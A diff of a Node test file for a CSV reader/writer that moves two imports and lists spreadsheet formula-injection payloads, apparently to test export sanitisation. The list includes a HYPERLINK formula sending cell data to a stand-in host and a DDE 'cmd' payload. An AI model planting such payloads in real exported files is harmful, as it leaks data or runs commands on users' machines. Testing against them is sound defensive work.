@@ -2,8 +2,8 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { readCsv } from '../../../server/src/core/adela/csvReader';
 import { writeCsv } from '../../../server/src/core/adela/csvWriter';
-import { exportWorkspace } from '../../../server/src/core/adela/exportWorkspace';
-import { importFiles } from '../../../server/src/core/adela/importFiles';
+import { exportWorkspace } from '../../../server/src/core/exchange/exportWorkspace';
+import { importFiles } from '../../../server/src/core/exchange/importFiles';
 import { analyzeFile } from '../../../server/src/core/check/analyzeFile';
 
 const DANGEROUS = ['=HYPERLINK("http://ejemplo.invalid/?"&A1,"clic")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=ya con apóstrofo", "''@dos"];
